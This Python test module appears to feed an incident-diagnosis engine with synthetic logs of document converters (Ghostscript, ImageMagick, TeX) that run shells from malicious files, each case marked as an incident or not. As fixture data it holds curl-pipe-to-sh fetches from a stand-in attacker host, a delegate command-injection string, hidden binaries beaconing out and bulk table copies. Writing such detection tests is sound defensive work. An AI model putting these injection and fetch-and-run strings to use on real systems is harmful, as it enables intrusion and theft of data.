"""Files that make the tool that converts them run a shell, and what fails or is copied where none did."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from tests.diagnosis.rules.cases import DoesNotHold, Holds, no
from tests.diagnosis.rules.scenes import SHOP
from tests.diagnosis.rules.test_intrusion__obeyed import RESTARTS, THIEF, may_be_a_test, site
from tests.diagnosis.rules.tiny import SPACE, at
from tuheg_ir.diagnosis.model import Log, Snapshot

START = (3000, "INFO ready")
GS = "WARN gs stderr: GPL Ghostscript 9.55.0: Unrecoverable error in --file-- (%pipe%/bin/sh ...), exit 1"
GS_OPERANDS = (
    (900, "Error: /ioerror in --file--"),
    (899.9, "Operand stack:"),
    (899.8, "   --nostringval--   (%pipe%sh /tmp/in-7.eps)   (r)"),
)
GS_SAFER = ((900, "Error: /invalidfileaccess in --file--"), *GS_OPERANDS[1:])
MAGICK = (
    "ERROR convert: delegate failed `'curl' -s -k -L -o '/tmp/magick-9' 'https://x.test/a\";id|sh \"'' "
    "@ error/delegate.c/InvokeDelegate/1928."
)
PICTURE = "ERROR convert: delegate failed `'{}' -o '/tmp/m.dat' 'https://cdn.shop.test/{}'' @ error/delegate.c/x/1928"
BODY = '{"method":"POST","path":"/mail/render","remote":"THIEF","status":400,"body":"x; curl -s http://THIEF/k | sh"}'
BODY = BODY.replace("THIEF", THIEF)
PIPED = f"WARN gs: --nostringval--   (%pipe%curl -s http://{THIEF}/k|sh)   (r)"
TEX = f"runsystem(curl -s {THIEF}/t -o /tmp/t)...executed."
METER = "WARN stderr:   % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current"
SAVES = "Saving to: '/tmp/k'"
CHILD = "WARN pool: unknown child of pid 1 is alive: %s, 3 open sockets"
EXE = '{"level":"warn","msg":"worker has a process that it did not start","pid":63,"exe":"%s"}'
PS = "www-data    63 98.0  0.4  71204 18220 ?        Ssl  11:40   9:12 %s"
PROC = "WARN cleanup: /proc/63/exe -> %s (deleted)"
BY_SHELL = '{"level":40,"msg":"child process started outside of job queue","cmd":"/bin/sh","args":"-c %s","ppid":1}'
ARGUMENTS = 'WARN audit: execve argv=["sh","-c","nohup %s"]'
LED = f"/tmp/.x/agent -c {THIEF}:8443"
NO_SHELL = (
    'pods "postgres-0" is forbidden: User "system:serviceaccount:SPACE:%s" cannot create resource "pods/exec" '
    'in API group "" in the namespace "SPACE"'
).replace("SPACE", SPACE)
HIDDEN = "/dev/shm/.f/kthreadx"
PLAIN = "/dev/shm/psql-static"
PART = (
    "LOG:  duration: 183049.9 ms  statement: COPY (SELECT p.*, x.* FROM p JOIN x USING (id) WHERE x.y = 2013) TO STDOUT"
)
WHOLE = "LOG:  statement: COPY patient TO STDOUT"
REFUSED = "ERROR:  permission denied for table staff  STATEMENT:  COPY staff TO STDOUT"
BY_HAND = "[881] LOG:  connection authorized: user=lab database=d application_name=psql (host {address})"
BY_ITSELF = BY_HAND.replace("psql", "label-worker")


def copied(*told: tuple[float, str], dumps: str = PART, joins: str = BY_HAND, **more: Any) -> Snapshot:
    """Return a program that converts, what it tells, and that parts of a table are copied out from its pod."""
    return site(START, *told, dumps=dumps, prefix="[881] lab@d ", joins=joins, **more)


def told_apart() -> Snapshot:
    """Return the same where the database tells first who comes, and then by which client."""
    world = copied((900, GS))
    address = next(line for each in world.logs for line in each.lines if "(host " in line).partition("(host ")[2][:-1]
    sql = (
        f"{at(700)} [881] LOG:  connection received: host={address} port=50122",
        f"{at(699)} [881] LOG:  connection authorized: user=lab database=d application_name=psql",
        f"{at(600)} [881] {PART}",
    )
    logs = [each for each in world.logs if each.pod != "postgres-0"]
    return replace(world, logs=(*logs, Log("postgres-0", "postgres", sql)))


HOLDS = [
    *(
        Holds(
            f"a converted file had a shell run: {what}",
            world,
            (SHOP, "security_incident", "isolate_workload"),
            excludes=no(*RESTARTS, at=SHOP),
            harmful=RESTARTS,
        )
        for what, world in (
            ("Ghostscript's pipe, and curl fetches", site(START, (900, GS), (899, METER))),
            ("Ghostscript's operands, and a table is copied by hand", copied(*GS_OPERANDS)),
            ("ImageMagick's delegate, and wget keeps a file", site(START, (900, MAGICK), (895, SAVES))),
            ("TeX, and whole tables are copied", copied((900, TEX), dumps=WHOLE, joins=BY_ITSELF)),
            ("a strange child lives", site(START, (900, GS), (500, CHILD % PLAIN))),
            (
                "TeX pipes what it has into one, and curl fetches",
                site(START, (900, "runsystem(git show HEAD:a | sh)...executed."), (899, METER)),
            ),
            (
                "beside a request that was turned away",
                site(START, (900, BODY), (800, f"sh: curl -s http://{THIEF}/k | sh")),
            ),
            ("all of it", copied((900, GS), (899, METER), (500, CHILD % HIDDEN))),
        )
    ),
    *(
        Holds(
            f"a hidden program runs, and a part of a table is copied by hand: {what}",
            copied((500, line % path)),
            (SHOP, "security_incident", "isolate_workload"),
            excludes=no(*RESTARTS, at=SHOP),
        )
        for what, line, path in (
            ("an unknown child", CHILD, HIDDEN),
            ("a field of a log", EXE, "/var/tmp/.cache/x"),
            ("a list of ps", PS, HIDDEN),
            ("the file of a process", PROC, "/tmp/.a"),
            ("an unknown child by the name of a tool", CHILD, "/tmp/.npm/x"),
            ("a shell in a field of its own starts it, led outside", BY_SHELL, LED),
            ("a shell starts it, and nobody knows why", BY_SHELL, "/var/tmp/.k/run"),
            ("a shell among arguments starts it, led outside", ARGUMENTS, f"/tmp/.k --pool={THIEF}:443"),
            (
                "it is led outside by an option and a scheme",
                EXE.replace("did not ", ""),
                f"/tmp/.k -v -u tcp://{THIEF}:443",
            ),
        )
    ),
    Holds(
        "a hidden program that is led outside runs, and asks for a shell in another pod",
        site(START, (500, BY_SHELL % LED), (450, NO_SHELL % "default")),
        (SHOP, "security_incident", "isolate_workload"),
        excludes=no(*RESTARTS, at=SHOP),
        harmful=RESTARTS,
    ),
    may_be_a_test(
        "a tool keeps its programs hidden, and a shell is asked for",
        site(START, (500, "INFO exec=/tmp/.npm/_npx/bin/prisma started"), (450, NO_SHELL % "default")),
    ),
    *(
        may_be_a_test(f"a shell starts a tool that is hidden, and a colleague copies: {line}", copied((500, line)))
        for line in (
            'INFO cmd="sh -c /tmp/.npm/_npx/bin/prisma --url http://10.0.0.7:4466"',
            'INFO command: /bin/sh -c "/tmp/.bun/bin/bun run build" took 4 s',
            "INFO exec=/tmp/.wine-1000/server connected to 104.16.3.35:443",
        )
    ),
    may_be_a_test("a tool lies beside a program, and copies a part of a table", copied((500, CHILD % PLAIN))),
    *(
        may_be_a_test(f"a tool keeps its programs hidden, and a colleague copies: {line}", copied((500, line)))
        for line in (
            "INFO exec=/tmp/.npm/_npx/bin/prisma started",
            "INFO child=/tmp/.nx/daemon/d started",
            "INFO command: /tmp/.cache/pip/x/bin/worker",
            "INFO executable=/tmp/.wine-1000/server",
            "INFO process=/tmp/.bun/bin/bun",
            "INFO cmd: /tmp/.cpanm/work/x",
            "WARN command=/tmp/.chromium/chrome did not start in time",
            "WARN zombie process 41 (/tmp/.chromium/chrome) reaped",
            "INFO exe_path=/tmp/.embedded-postgres/bin/initdb",
        )
    ),
    *(
        may_be_a_test(
            f"its own documents have TeX run a script: {ran}",
            site(START, (900, f"runsystem({ran})...executed."), (899, fetches)),
        )
        for ran, fetches in (
            ("bash /opt/tex/fetch-logo.sh", METER),
            ('sh -c "git describe > rev.tex"', "Saving to: 'logo.pdf'"),
            ("base64 -d sig.b64 > sig.png", METER),
        )
    ),
    may_be_a_test(
        "files have shells run all day, and one fetches",
        site(START, *((2900 - 100 * n, GS) for n in range(20)), (999, METER)),
    ),
    Holds(
        "a database names its client once, and by its tool then",
        told_apart(),
        (SHOP, "security_incident", "isolate_workload"),
    ),
]
DOES_NOT_HOLD = [
    DoesNotHold(what, world)
    for what, world in (
        *(
            (f"a picture is not there, and its address holds {where}", site(START, (900, line), (899, METER)))
            for where, line in (
                ("an escaped field", PICTURE.format("curl", "img?w=200&amp;id=4711")),
                ("a field of a path", PICTURE.format("wget", "img?w=2;id=4711")),
                ("a part of a path", PICTURE.format("wget", "img;id/4711")),
                ("a list", PICTURE.format("wget", "img?fields=name|id")),
            )
        ),
        ("a delegate of commands failed, and tells itself what it fetched", site(START, (900, MAGICK), (899, METER))),
        (
            "a delegate of commands failed, and complains itself",
            site(START, (900, MAGICK), (901, METER), (899, "curl: (22) The requested URL returned error: 404")),
        ),
        (
            "Ghostscript keeps a file from fetching and running, as it says behind",
            site(START, (900, PIPED), (899, "Error: /invalidfileaccess in --file--")),
        ),
        (
            "Ghostscript keeps a file from fetching and running, as it says before",
            site(START, (900, "Error: /invalidfileaccess in --file--"), (899, PIPED)),
        ),
        ("a request that orders it is turned away", site(START, (900, BODY))),
        ("a file has a shell run, and nothing follows", site(START, (900, GS))),
        ("Ghostscript keeps a file from its pipe, and an analyst copies in its pod", copied(*GS_SAFER)),
        (
            "ImageMagick's policy refuses a delegate",
            copied((900, MAGICK), (899, "convert: attempt to perform an operation not allowed by the security policy")),
        ),
        (
            "TeX refuses what it is not allowed to run",
            copied((900, TEX.replace("executed", "disabled")), (899, METER)),
        ),
        (
            "TeX runs a tool of the house",
            copied((900, "runsystem(pygmentize -f latex -o _minted/a.tex a.pyg)...executed."), (899, METER)),
        ),
        (
            "a delegate fails at an honest file, and is fetched by curl",
            copied((900, "convert: delegate failed `'curl' -s -k -L -o '%o' 'https:%M'' @ error/x.c"), (899, METER)),
        ),
        (
            "a delegate misses its tool",
            copied(
                (900, "convert: delegate failed `'gs' -q '-sOutputFile=%o' '-f%i'' @ x.c"),
                (899, "sh: 1: gs: not found"),
            ),
        ),
        (
            "a program has its own output piped",
            copied((900, "INFO gs -q -sOutputFile=%pipe%lpr a.ps"), (899, GS), (898, METER)),
        ),
        (
            "a file has a shell run, and the program fetches files all day",
            site(START, *((2900 - 200 * n, METER) for n in range(14)), (900, GS)),
        ),
        ("a colleague copies a part of a table in its pod", copied()),
        ("a dump by the house copies all tables from another pod", copied((900, GS), dumps=WHOLE, by="jobs")),
        (
            "a file has a shell run, and the program's own client sends its report",
            copied((900, GS), joins=BY_ITSELF),
        ),
        ("a file has a shell run, and a copy is refused", copied((900, GS), dumps=REFUSED)),
        (
            "a file has a shell run, and the program is made to copy by psql",
            copied((900, GS), command=["psql", "-f", "/sql/export.sql"]),
        ),
        ("a strange program runs, and nothing is taken", site(START, (500, CHILD % HIDDEN))),
        *(
            (f"what lies where programs write is none that runs: {line}", copied((500, line)))
            for line in (
                "ERROR failed to process: /dev/shm/in-41.eps",
                "ERROR could not process: /dev/shm/upload-9",
                "WARN orphan process 41 left its file /dev/shm/sem.mp-x1",
                "WARN target process 1: /tmp/.java_pid1 does not answer",
                "INFO command: /tmp/.mount_magickX/AppRun convert a.png",
                "INFO exe=/dev/shm/page.png written",
            )
        ),
        ("a hidden program is led outside, and nothing is taken", site(START, (500, BY_SHELL % LED))),
        ("its account is refused a shell in a pod", site(START, (450, NO_SHELL % "default"))),
        (
            "its account is refused a shell in a pod, and a colleague copies a part of a table",
            copied((450, NO_SHELL % "default")),
        ),
        (
            "it tells of another account that is refused a shell in a pod",
            site(START, (500, BY_SHELL % LED), (450, NO_SHELL % "jobs")),
        ),
        (
            "a hidden program is led outside where it is made to run what its users ask for",
            site(START, (500, BY_SHELL % LED), (450, NO_SHELL % "default"), name="jenkins"),
        ),
        (
            "a shell is told to read a file that lies hidden",
            copied((500, "INFO cmd=/bin/sh args=-c 'cat /tmp/.ready'")),
        ),
        (
            "a request speaks of a shell that starts a hidden program",
            copied((500, f'{THIEF} - - "GET /?cmd=sh -c {LED} HTTP/1.1" 200 81')),
        ),
        ("a sensor tells what others run", copied((500, EXE % HIDDEN), name="falco")),
        (
            "its template has its tool there",
            copied((500, EXE % PLAIN), command=[PLAIN, "--serve"]),
        ),
        ("a request speaks of it", copied((900, f'{THIEF} - - "GET /?q={GS}&exe={HIDDEN} HTTP/1.1" 200 81'))),
        ("it is made to run its users' code", copied((900, GS), (899, METER), name="jupyterhub")),
    )
]
